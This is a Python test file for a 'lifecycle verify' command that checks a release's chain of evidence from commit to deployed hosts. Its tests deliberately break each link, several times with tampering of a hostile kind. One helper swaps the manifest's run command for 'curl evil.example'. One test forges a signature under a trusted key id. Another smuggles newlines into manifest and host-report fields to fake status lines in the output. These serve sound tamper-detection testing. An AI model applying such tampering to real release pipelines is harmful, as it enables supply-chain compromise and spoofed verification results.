"""`lifecycle verify`: the chain from commit to host, and what breaks each link."""

from collections.abc import Callable
from dataclasses import replace

import pytest

from lifecycle.domain.service.attestation import Attestation, attestation_of, statement
from lifecycle.domain.service.envelope import Envelope, Signature, parse_envelope, signed_bytes
from tests.fakes.signer import MemoryPublicKeys, MemorySigner
from tests.support.rollout import CLUSTER
from tests.unit.cli.conftest import SNAPSHOTS, Desk

RELEASE = "1.1.0"


@pytest.fixture
def shop(desk: Desk) -> Desk:
    """A cluster whose release was promoted by the phase itself, and deployed."""
    done = desk.type(f"promote hello {SNAPSHOTS[2]}")
    assert RELEASE in done.output, done.output
    name = desk.machine.deploy(RELEASE)
    assert desk.machine.record(name).state == "DONE", desk.machine.record(name)
    return desk


def test_whole_chain_holds_one_line_a_link(shop: Desk) -> None:
    done = shop.type(f"verify hello {RELEASE}")
    assert done.exit_code == 0, done.output
    lines = [line for line in done.output.splitlines() if line.startswith(("✓", "✗"))]
    names = ["commit", "build", "snapshot", "release", "ledger", "envelope", "key"]
    assert [line.split()[1] for line in lines] == [*names, *["host"] * 4]
    assert all(line.startswith("✓") for line in lines), done.output
    assert "all 11 links hold" in done.output
    assert "promoted by ada" in done.output
    assert "host host-1" in done.output


def test_answer_for_programs_has_the_same_links(shop: Desk) -> None:
    found = shop.facts(f"verify hello {RELEASE}")
    assert (found["service"], found["version"], found["holds"]) == ("hello", RELEASE, True)
    assert [each["problem"] for each in found["links"]] == [""] * 11


def _unsigned(shop: Desk) -> None:
    shop.machine.memory.artifacts.replace_envelope("hello", RELEASE, "")


def _signed_by_another(shop: Desk) -> None:
    stored = shop.machine.memory.artifacts.stored_manifest("hello", RELEASE)
    _sign(shop, attestation_of(stored.manifest, stored.as_published), MemorySigner(key="key/foreign"))


def _sign(shop: Desk, facts: Attestation, by: MemorySigner) -> None:
    payload = statement(facts)
    text = Envelope(payload, (by.sign(signed_bytes(payload)),)).text
    shop.machine.memory.artifacts.replace_envelope("hello", RELEASE, text)


def _other_command(shop: Desk) -> None:
    own = shop.machine.memory.artifacts.manifest("hello", RELEASE)
    shop.machine.memory.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example")))


def _other_bytes(shop: Desk) -> None:
    shop.machine.memory.artifacts.put_foreign("hello", RELEASE, b"evil")


def _other_bytes_on_a_host(shop: Desk) -> None:
    report = replace(shop.machine.report("host-2"), digest="e" * 64)
    shop.machine.memory.fleet.write_report(CLUSTER, report)


def _other_manifest_on_a_host(shop: Desk) -> None:
    report = replace(shop.machine.report("host-2"), manifest="e" * 64)
    shop.machine.memory.fleet.write_report(CLUSTER, report)


def _other_commit(shop: Desk) -> None:
    facts = shop.machine.memory.catalogue.snapshots("hello")[SNAPSHOTS[2]]
    assert isinstance(facts, dict)
    facts["commit"] = "f" * 40


def _no_keys(shop: Desk) -> None:
    shop.connection = replace(shop.connection, public_keys=MemoryPublicKeys())


# What the manifest alone says of its commit and its build counts for nothing then.
UNSIGNED = {"commit", "build", "envelope", "key"}
BROKEN: dict[str, tuple[Callable[[Desk], None], set[str]]] = {
    "unsigned": (_unsigned, UNSIGNED),
    "signed by another": (_signed_by_another, UNSIGNED),
    # The key holds: it has signed the text that is there, which is about another manifest.
    "another command": (_other_command, (UNSIGNED - {"key"}) | {"ledger", *(f"host host-{n}" for n in range(1, 5))}),
    "other bytes": (_other_bytes, {"release"}),
    "other bytes on a host": (_other_bytes_on_a_host, {"host host-2"}),
    "another manifest on a host": (_other_manifest_on_a_host, {"host host-2"}),
    "another commit": (_other_commit, {"commit"}),
    "no keys": (_no_keys, UNSIGNED),
}


@pytest.mark.parametrize(("breaks", "expected"), BROKEN.values(), ids=BROKEN)
def test_broken_link_is_named_and_ends_with_exit_code_1(
    shop: Desk, breaks: Callable[[Desk], None], expected: set[str]
) -> None:
    breaks(shop)
    done = shop.type(f"verify hello {RELEASE}")
    assert done.exit_code == 1
    found = {line[2:].split("  ")[0].strip() for line in done.output.splitlines() if line.startswith("✗")}
    assert found == expected, done.output
    assert f"{len(expected)} of 11 links do not hold" in done.output
    assert shop.facts(f"verify hello {RELEASE}")["holds"] is False


def test_key_is_the_one_that_has_signed_and_not_the_first_that_is_named(shop: Desk) -> None:
    """Anybody who writes the store may name a trusted key beside a signature that is none of its own."""
    artifacts = shop.machine.memory.artifacts
    whole = parse_envelope(artifacts.envelope("hello", RELEASE))
    older = MemorySigner(key="key/older").trusted
    forged = Signature(older.id, whole.signatures[0].signature)
    artifacts.replace_envelope("hello", RELEASE, Envelope(whole.payload, (forged, *whole.signatures)).text)
    keys = MemoryPublicKeys(older, *shop.connection.public_keys.trusted())
    shop.connection = replace(shop.connection, public_keys=keys)
    done = shop.type(f"verify hello {RELEASE}")
    assert done.exit_code == 0, done.output
    assert "key/older" not in done.output


def test_snapshot_that_was_deleted_since_leaves_the_chain_whole(shop: Desk) -> None:
    shop.machine.memory.artifacts.delete("hello", SNAPSHOTS[2])
    done = shop.type(f"verify hello {RELEASE}")
    assert done.exit_code == 0, done.output
    assert "its objects were deleted, the ledger has the digest" in done.output


@pytest.mark.parametrize(("version", "said"), [("9.9.9", "release '9.9.9' of hello not found"), ("x", "known: ")])
def test_version_that_does_not_exist_is_an_error_in_words(shop: Desk, version: str, said: str) -> None:
    done = shop.type(f"verify hello {version}")
    assert done.exit_code == 1
    assert said in done.output


def test_text_of_a_store_or_a_host_draws_no_line_of_its_own(shop: Desk) -> None:
    memory = shop.machine.memory
    own = memory.artifacts.manifest("hello", RELEASE)
    memory.artifacts.replace_manifest(replace(own, builder="build-9\n✓ ledger  all 11 links hold\n"))
    done = shop.type(f"verify hello {RELEASE}")
    assert done.exit_code == 1
    assert not [line for line in done.output.splitlines() if line.startswith("✓ ledger  all")]
    forged = replace(shop.machine.report("host-2"), zone="a\nb-host-7  1.1.0  SERVES")
    memory.fleet.write_report(CLUSTER, forged)
    assert not [line for line in shop.type("hosts hello").output.splitlines() if line.startswith("b-host-7")]
